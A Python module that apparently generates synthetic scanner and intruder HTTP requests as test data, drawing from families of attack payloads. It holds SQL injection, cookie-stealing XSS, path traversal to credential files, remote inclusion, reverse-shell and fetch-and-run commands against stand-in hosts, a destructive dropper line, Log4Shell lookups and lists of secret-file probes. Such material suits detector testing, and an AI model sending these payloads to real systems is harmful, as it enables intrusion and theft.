"""Requests as scanners and intruders send them: every call gives another payload, path and parameter."""

import random
from collections.abc import Callable
from urllib.parse import quote, quote_plus

Draw = Callable[[random.Random], tuple[str, str, str]]
"""Gives method, target and agent ("" keeps the attacker's own)."""

PARAMETERS = (
    "id", "cat", "page", "file", "path", "item", "product_id", "user", "uid", "article", "sort", "lang",
    "view", "doc", "name", "ref", "url", "redirect", "next", "template", "module", "action", "q", "order",
    "year", "token", "filter", "download", "include", "src", "img", "dest", "report", "pid", "tid", "newsid",
)  # fmt: skip
SCRIPTS = (
    "/index.php", "/news.php", "/product.php", "/view.asp", "/cgi-bin/view.cgi", "/download.php", "/item.jsp",
    "/gallery/show.php", "/shop/list.aspx", "/api/v1/items", "/wp-content/plugins/x/ajax.php", "/portal/get.do",
    "/main.php", "/article.php", "/user/profile", "/search.php", "/list.php", "/detail.php", "/board/view.php",
)  # fmt: skip
TABLES = (
    "users",
    "wp_users",
    "admin",
    "members",
    "information_schema.tables",
    "accounts",
    "mysql.user",
    "customers",
)
COLUMNS = (
    "user_login",
    "user_pass",
    "password",
    "email",
    "table_name",
    "login",
    "passwd",
    "card_no",
    "secret",
)
FILES = (
    "etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini", "etc/issue",
    "var/log/apache2/access.log", "windows/system32/drivers/etc/hosts", "root/.ssh/id_rsa", "etc/group",
)  # fmt: skip
SECRETS = (
    ".env", ".env.bak", ".env.production", ".env.local", ".git/config", ".git/HEAD", ".svn/entries", ".aws/credentials",
    ".ssh/id_rsa", ".htpasswd", ".DS_Store", "config.php.bak", "wp-config.php~", "wp-config.php.bak", "backup.sql",
    "dump.sql.gz", "database.sql", "phpinfo.php", "info.php", ".vscode/sftp.json", "docker-compose.yml", "id_rsa",
    "server-status", "actuator/env", "actuator/heapdump", "web.config", "composer.lock", "credentials.json", "config.json",
    "storage/logs/laravel.log", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "solr/admin/info/system",
    "wp-login.php", "xmlrpc.php", "wp-admin/setup-config.php", "phpmyadmin/index.php", "pma/index.php", "myadmin/index.php",
    "administrator/index.php", "manager/html", "HNAP1/", "boaform/admin/formLogin", "cgi-bin/luci", "GponForm/diag_Form",
    "owa/auth/logon.aspx", "autodiscover/autodiscover.json", "_ignition/execute-solution", "console/", "telescope/requests",
    "remote/fgt_lang", "shell", "setup.cgi", "_profiler/phpinfo", "debug/default/view", "s/1/_/;/META-INF/maven/pom.xml",
)  # fmt: skip
FOLDERS = (
    "",
    "",
    "",
    "backup/",
    "old/",
    "dev/",
    "test/",
    "app/",
    "api/",
    "public/",
    "www/",
    "site/",
    "blog/",
    "new/",
    "admin/",
)
SCANNERS = (
    "sqlmap/1.{}.{}#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.{}.{}) (Evasions:None) (Test:map_codes)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) v{}.{}",
    "WPScan v3.{}.{} (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.{}.{}",
    "DirBuster-1.{}-RC{} (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Mozilla/5.0 zgrab/0.x ({}.{})",
    "masscan/1.{}.{} (https://github.com/robertdavidgraham/masscan)",
    "Fuzz Faster U Fool v2.{}.{}-dev",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine {}.{}; https://nmap.org/book/nse.html)",
    "w3af.org/{}.{}",
    "feroxbuster/2.{}.{}",
    "Mozilla/5.0 (compatible; OpenVAS-VT {}.{})",
)
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
    "python-requests/2.28.1",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0",
    "-",
)


def _encoded(rng: random.Random, text: str) -> str:
    """Encode as different tools do: plus for spaces, percent for all, twice, or hardly at all."""
    way = rng.random()
    if way < 0.4:
        return quote_plus(text)
    if way < 0.7:
        return quote(text, safe="")
    if way < 0.8:
        return quote(quote(text, safe=""), safe="")
    return text.replace(" ", "%20").replace('"', "%22").replace("\\", "%5c").replace("#", "%23")


def _cased(rng: random.Random, text: str) -> str:
    if rng.random() < 0.75:
        return text
    return "".join(letter.upper() if rng.random() < 0.5 else letter for letter in text)


def _carried(rng: random.Random, value: str, before: str = "") -> str:
    lead = f"{rng.choice(PARAMETERS)}={rng.randrange(500)}&" if rng.random() < 0.4 else ""
    return f"{rng.choice(SCRIPTS)}?{lead}{rng.choice(PARAMETERS)}={before}{_encoded(rng, value)}"


def _sql(rng: random.Random) -> tuple[str, str, str]:
    number, other = rng.randrange(10_000), rng.randrange(10_000)
    columns = ",".join(rng.choice((str(n), "null", rng.choice(COLUMNS))) for n in range(rng.randrange(2, 9)))
    table, column = rng.choice(TABLES), rng.choice(COLUMNS)
    joined = f"concat(0x{number:x},(select {column} from {table} limit 1),floor(rand(0)*2)"
    text = rng.choice(
        (
            f"{number}' or '{other}'='{other}",
            f"{number}' union select {columns} from {table}-- -",
            f"-{number} union all select {columns} from {table}#",
            f"{number}) or {other}={other}-- -",
            f"{number}' and sleep({rng.randrange(3, 20)})-- {other}",
            f"{number}; drop table {table}; --",
            f"{number} and (select {other} from (select count(*),{joined})x from {table} group by x)a)",
            f"{number}';waitfor delay '0:0:{rng.randrange(3, 20)}'--",
            f"{number}' and extractvalue({other},concat(0x7e,(select {column} from {table} limit {number % 9},1)))-- -",
            f"{number}/**/union/**/select/**/{columns.replace(',', '/**/,')}/**/from/**/{table}",
            f"{number}' and benchmark({other}000,md5({number}))='0",
        )
    )
    return "GET", _carried(rng, _cased(rng, text)), ""


def _xss(rng: random.Random) -> tuple[str, str, str]:
    number = rng.randrange(100_000)
    text = rng.choice(
        (
            f"<script>alert({number})</script>",
            f'"><script>document.location="http://x{number}.example/"+document.cookie</script>',
            f"<img src=x{number} onerror=alert({number})>",
            f"'><svg/onload=confirm({number})>",
            f"<body onload=prompt({number})>",
            f"javascript:alert({number})//",
            f'" onmouseover="alert({number})" x="',
            f"<iframe src=javascript:alert({number})></iframe>",
            f"<details open ontoggle=alert({number})>",
        )
    )
    return "GET", _carried(rng, text), ""


def _traversal(rng: random.Random) -> tuple[str, str, str]:
    step = rng.choice(
        ("../", "..%2f", "%2e%2e/", "..%5c", "....//", "%2e%2e%2f", "..%252f", "..%c0%af", ".%2e/")
    )
    climbed = (
        step * rng.randrange(3, 12) + rng.choice(FILES) + rng.choice(("", "", "%00", "%00.html", "%2500"))
    )
    if rng.random() < 0.4:
        folder = rng.choice(
            ("cgi-bin", "icons", "static", "assets", "public/plugins/graph", "images", "uploads")
        )
        return "GET", f"/{folder}/{climbed}", ""
    return "GET", f"{rng.choice(SCRIPTS)}?{rng.choice(PARAMETERS)}={climbed}&v={rng.randrange(9999)}", ""


def _inclusion(rng: random.Random) -> tuple[str, str, str]:
    number = rng.randrange(100_000)
    text = rng.choice(
        (
            f"http://203.0.113.{number % 256}/x{number}.txt?",
            f"https://files{number}.example.net/shell.txt",
            f"php://filter/convert.base64-encode/resource=config{number}.php",
            f"php://input&n={number}",
            f"data://text/plain;base64,PD9waHAgc3lzdGVt{number}",
            f"expect://id{number}",
            f"file:///{rng.choice(FILES)}?{number}",
            f"ftp://anonymous:x@203.0.113.{number % 256}/r57{number}.txt",
        )
    )
    return "GET", f"{rng.choice(SCRIPTS)}?{rng.choice(PARAMETERS)}={text}", ""


def _command(rng: random.Random) -> tuple[str, str, str]:
    number = rng.randrange(100_000)
    host = f"198.51.100.{number % 256}"
    text = rng.choice(
        (
            f";cat /{rng.choice(FILES)} #{number}",
            f"|id;uname -a;echo {number}",
            f"`wget http://{host}/b{number}.sh -O- | sh`",
            f"$(curl -s http://{host}/{number}|bash)",
            f"&& ping -c {number % 9 + 1} {host}",
            f"; nc -e /bin/sh {host} {number}",
            f"%0acat /{rng.choice(FILES)}",
            f"{{{{{number}*{number % 97}}}}}",
            f"${{{number}*7}}",
            f"{{{{config.__class__.__init__.__globals__['os'].popen('id {number}').read()}}}}",
            f"<%= {number} * {number % 89} %>",
            f"%{{(#a={number}).(@java.lang.Runtime@getRuntime().exec('id'))}}",
        )
    )
    if rng.random() < 0.2:
        command = f"cd+/tmp;rm+-rf+*;wget+http://{host}/{number}.mips;chmod+777+{number}.mips;./{number}.mips"
        return "GET", f"/shell?{command}", ""
    return "GET", _carried(rng, text, str(number % 50)), ""


def _lookup(rng: random.Random) -> tuple[str, str, str]:
    number = rng.randrange(1_000_000)
    word = rng.choice(
        (
            "jndi",
            "${lower:j}ndi",
            "${lower:j}${lower:n}${lower:d}i",
            "${::-j}${::-n}${::-d}${::-i}",
            "j${env:NaN:-n}di",
            "${upper:j}ndi",
        )
    )
    text = f"${{{word}:{rng.choice(('ldap', 'rmi', 'dns', 'ldaps'))}://x{number}.example.net:{1000 + number % 9000}/a}}"
    if rng.random() < 0.5:
        return "GET", f"/{rng.choice(('', 'login', 'api', 'search'))}?v={number}", text
    return "GET", _carried(rng, text), ""


def _secret(rng: random.Random) -> tuple[str, str, str]:
    query = f"?{rng.randrange(9999)}" if rng.random() < 0.15 else ""
    folder = rng.choice(FOLDERS)
    if rng.random() < 0.3:
        folder += f"{rng.choice(('v', 'site', 'app', 'web', 'www'))}{rng.randrange(300)}/"
    return rng.choice(("GET", "GET", "GET", "HEAD", "POST")), f"/{folder}{rng.choice(SECRETS)}{query}", ""


def _scanner(rng: random.Random) -> tuple[str, str, str]:
    agent = rng.choice(SCANNERS).format(rng.randrange(9), rng.randrange(40))
    word = rng.choice(
        ("admin", "login", "backup", "test", "api", "old", "upload", "db", "status", "app", "panel")
    )
    ending = rng.choice(("", "/", ".php", ".bak", ".zip", ".aspx", ".jsp", ".txt", ".old"))
    return "GET", f"/{word}{rng.randrange(2000)}{ending}", agent


def _abuse(rng: random.Random) -> tuple[str, str, str]:
    number = rng.randrange(65_536)
    return rng.choice(
        (
            ("", f"\\x16\\x03\\x01\\x{number >> 8:02X}\\x{number & 255:02X}\\x01\\x00\\x00", "-"),
            ("CONNECT", f"mail{number}.example.net:25", ""),
            ("TRACE", f"/?{number}", ""),
            ("GET", f"http://203.0.113.{number % 256}:{number}/proxy.php", ""),
            ("DEBUG", f"/x{number}.aspx", ""),
            (
                "",
                f"\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x{number >> 8:02X}\\x{number & 255:02X}Cookie: mstshash=",
                "-",
            ),
        )
    )


FAMILIES: dict[str, Draw] = {
    "sql-injection": _sql,
    "xss": _xss,
    "traversal": _traversal,
    "inclusion": _inclusion,
    "command": _command,
    "lookup": _lookup,
    "secret": _secret,
    "scanner": _scanner,
    "abuse": _abuse,
}
WEIGHTS = (20, 11, 12, 8, 10, 6, 22, 8, 3)
